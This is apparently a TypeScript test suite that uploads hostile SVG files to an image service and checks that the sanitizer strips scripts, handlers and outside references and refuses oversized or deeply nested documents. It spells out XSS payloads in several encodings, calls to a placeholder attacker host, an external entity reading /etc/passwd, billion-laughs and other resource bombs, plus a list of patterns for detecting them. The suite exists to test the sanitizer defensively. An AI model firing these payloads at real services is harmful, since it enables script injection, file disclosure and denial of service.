/**
 * Hostile SVG: documents too big or too deep to render cheaply, entity expansion, and active
 * content in every encoding the sanitizer has been fooled by (issue 10, item 5). A stored SVG must
 * come back with no script, no event handler and no reference outside the document.
 */
import { expect } from 'vitest';
import type { HostileInput, Probe } from './corpus.js';
import { expectRefused, idOf, uploadFile } from './uploads.js';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const doc = (body: string, attrs = 'width="120" height="80"') => `<svg ${NS} ${attrs}><rect width="120" height="80" fill="#36c"/>${body}</svg>`;

const uploadSvg = (probe: Probe, text: string) => uploadFile(probe, Buffer.from(text), 'hostile.svg', 'image/svg+xml');

/** Decodes XML character references and CSS escapes, so a check sees what a browser would. */
function decoded(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&(quot|apos|lt|gt|amp);/g, (_, name: string) => ({ quot: '"', apos: "'", lt: '<', gt: '>', amp: '&' })[name]!)
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/<!--[\s\S]*?-->|<!\[CDATA\[|\]\]>/g, '');
}

/** What must never reach a browser from a sanitized SVG, checked on the decoded text. */
const activeContent: Array<[string, RegExp]> = [
  ['a script element', /<script/i],
  ['an event-handler attribute', /\son[a-z]+\s*=/i],
  ['an animation targeting href or a handler', /attributeName\s*=\s*["']\s*(xlink:)?(href|on[a-z]+)/i],
  ['the attacker host', /evil\.example/i],
  ['a javascript: URL', /javascript\s*:/i],
  ['foreignObject', /foreignObject/i],
  ['an @import', /@import/i],
  ['image-set()', /image-set\s*\(/i],
  ['an external url()', /url\(\s*["']?\s*(?!#|data:image\/)[a-z]/i],
];

export function expectInert(svg: string): void {
  const plain = decoded(svg);
  for (const [what, pattern] of activeContent) expect(plain, `sanitized SVG still holds ${what}`).not.toMatch(pattern);
}

/** Stored, then delivered as SVG with no active content left, at full size and through a variant. */
const sanitized = (name: string, body: string, issue?: number): HostileInput => ({
  name,
  issue,
  async run(probe) {
    const stored = await uploadSvg(probe, doc(body));
    expect(stored.status).toBe(200);
    for (const variant of ['public', 'w=10']) {
      const answer = await probe.deliver(`${idOf(stored)}/${variant}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('image/svg+xml');
      expectInert(answer.text());
    }
  },
});

/** Refused at upload; a stored one is still delivered once, so today's cost shows up in the watch. */
const refused = (name: string, text: () => string, issue?: number): HostileInput => ({
  name,
  issue,
  async run(probe) {
    const stored = await uploadSvg(probe, text());
    if (stored.status === 200) await probe.deliver(`${idOf(stored)}/w=1`);
    expectRefused(stored);
  },
});

/** Anything but a 5xx; when stored, delivered without active content. */
const survived = (name: string, text: () => string, issue?: number): HostileInput => ({
  name,
  issue,
  async run(probe) {
    const stored = await uploadSvg(probe, text());
    if (stored.status !== 200) return;
    const answer = await probe.deliver(`${idOf(stored)}/public`);
    if (answer.status === 200) expectInert(answer.text());
  },
});

const laughs = () => {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE svg [${entities.join('')}]><svg ${NS} width="10" height="10"><text>&lol9;</text></svg>`;
};

const complexity: HostileInput[] = [
  refused('350,000 <rect> elements in 10 MB', () => `<svg ${NS} width="100" height="100">${'<rect width="1" height="1"/>'.repeat(350_000)}</svg>`, 3),
  refused('a path of 1.5 million segments', () => `<svg ${NS} width="100" height="100"><path d="M0 0${' l1 1'.repeat(1_500_000)}"/></svg>`, 3),
  refused('<g> nested 300 deep', () => `<svg ${NS}>${'<g>'.repeat(300)}${'</g>'.repeat(300)}</svg>`),
  refused('<g> nested 100,000 deep', () => `<svg ${NS}>${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`),
  survived('a <use> fan-out of 10^8 references', () => {
    const levels = ['<rect id="u0" width="1" height="1"/>'];
    for (let i = 1; i <= 8; i++) levels.push(`<g id="u${i}">${`<use href="#u${i - 1}"/>`.repeat(10)}</g>`);
    return `<svg ${NS} width="100" height="100"><defs>${levels.join('')}</defs><use href="#u8"/></svg>`;
  }, 4),
  survived('a blur of stdDeviation 1e6 on a 5000×5000 canvas', () =>
    `<svg ${NS} width="5000" height="5000"><filter id="f"><feGaussianBlur stdDeviation="1000000"/></filter><rect width="5000" height="5000" filter="url(#f)"/></svg>`, 4),
  survived('width and height of 1e9', () => doc('', 'width="1000000000" height="1000000000"')),
  survived('negative, NaN and overflowing sizes', () => doc('', 'width="-5" height="NaN" viewBox="0 0 1e309 -1"')),
  survived('billion-laughs entity expansion', laughs),
  survived('an external entity reading /etc/passwd', () => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${NS} width="10" height="10"><text>&x;</text></svg>`),
  survived('an external DTD', () => `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg ${NS} width="10" height="10"/>`),
  survived('a PNG pixel bomb in a data: image', () => doc(`<image width="10" height="10" href="data:image/png;base64,${pngBombBase64()}"/>`)),
  survived('not well-formed (unclosed elements)', () => `<svg ${NS}><g><rect`),
  survived('UTF-16 with a byte-order mark', () => `\ufeff${doc('')}`),
  survived('NUL bytes inside the markup', () => doc('<text>a\u0000b</text>').replace('<rect', '<rect\u0000')),
  survived('an <html> root with an SVG namespace', () => `<html xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></html>`),
];

function pngBombBase64(): string {
  const header = Buffer.from('89504e470d0a1a0a0000000d49484452000186a0000186a00800000000', 'hex');
  return header.toString('base64');
}

const activeContentInputs: HostileInput[] = [
  sanitized('every classic payload at once', `<script>alert(2)</script><script xlink:href="https://evil.example/x.js"/>
    <rect width="120" height="80" fill="#36c" onclick="alert(3)" onmouseover="alert(4)"/>
    <image href="https://evil.example/a.png" width="10" height="10"/><image xlink:href="http://evil.example/b.png" width="10" height="10"/>
    <use href="https://evil.example/sprite.svg#icon"/><a href="javascript:alert(5)"><text x="5" y="20">link</text></a>
    <foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
    <style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/f.svg#p) }</style>
    <animate attributeName="href" to="javascript:alert(6)"/><set attributeName="onmouseover" to="alert(7)"/>`),
  sanitized('an onload on the root', '<g onload="alert(1)"/>'),
  sanitized('a script element', '<script>alert(1)</script>'),
  sanitized('an external <image href>', '<image href="https://evil.example/a.png" width="10" height="10"/>'),
  sanitized('an external <use xlink:href>', '<use xlink:href="https://evil.example/s.svg#i"/>'),
  sanitized('fill="url(http://…)"', '<rect width="5" height="5" fill="url(http://evil.example/p.svg#p)"/>'),
  sanitized('a plain @import', '<style>@import "http://evil.example/x.css";</style>'),
  sanitized('an uppercase @IMPORT', '<style>@IMPORT url(http://evil.example/x.css);</style>'),
  sanitized('an entity-encoded javascript: href', '<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
  sanitized('a javascript: href with a tab inside', '<a href="java&#9;script:alert(1)"><text>x</text></a>'),
  sanitized('url() behind a CSS escape in a style element', '<style>rect { fill: \\75 rl(http://evil.example/f) }</style>'),
  sanitized('url() with an entity-encoded quote in style=', '<rect width="5" height="5" style="fill:url(&quot;http://evil.example/f&quot;)"/>'),
  sanitized('<set attributeName="&#104;ref" to="https://…">', '<a><set attributeName="&#104;ref" to="https://evil.example/"/><text>x</text></a>', 5),
  sanitized('<set attributeName="&#111;nclick">', '<rect width="5" height="5"><set attributeName="&#111;nclick" to="alert(1)"/></rect>', 5),
  sanitized('<animate attributeName="&#x68;ref" values="https://…">', '<a><animate attributeName="&#x68;ref" values="https://evil.example/"/><text>x</text></a>', 5),
  sanitized('<style>@im<!-- -->port "http://…"</style>', '<style>@im<!-- -->port "http://evil.example/x.css";</style>', 5),
  sanitized('<style> ur<!---->l(http://…)', '<style>rect { fill: ur<!---->l(http://evil.example/f) }</style>', 5),
  sanitized('@import split across two CDATA sections', '<style><![CDATA[@im]]><![CDATA[port url(http://evil.example/x.css);]]></style>', 5),
  sanitized('image-set() in a style element', '<style>rect { background-image: image-set("http://evil.example/a.png" 1x) }</style>', 5),
  sanitized('image-set() in a style attribute', '<rect width="5" height="5" style="fill: image-set(\'http://evil.example/a.png\' 1x)"/>', 5),
];

const cacheKey: HostileInput = {
  name: 'w=1…w=5 of one SVG share one rendition (options that do not apply to SVG make no new cache keys)',
  issue: 3,
  async run(probe) {
    const stored = await uploadSvg(probe, doc('<circle cx="5" cy="5" r="4"/>'));
    expect(stored.status).toBe(200);
    const caches: Array<string | null> = [];
    for (const w of [1, 2, 3, 4, 5]) caches.push((await probe.deliver(`${idOf(stored)}/w=${w}`)).headers.get('x-pictor-cache'));
    expect(caches.slice(1).filter((c) => c === 'miss')).toEqual([]);
  },
};

export const svgInputs: HostileInput[] = [...complexity, ...activeContentInputs, cacheKey];
